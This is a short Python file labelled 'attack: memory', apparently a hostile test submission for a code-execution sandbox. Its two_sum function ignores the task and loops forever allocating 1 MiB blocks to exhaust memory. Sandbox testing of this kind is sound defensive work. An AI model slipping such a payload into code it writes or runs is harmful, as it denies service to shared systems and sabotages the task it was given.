# attack: memory
kept = []


def two_sum(nums, target):
    while True:
        kept.append(b"x" * (1 << 20))
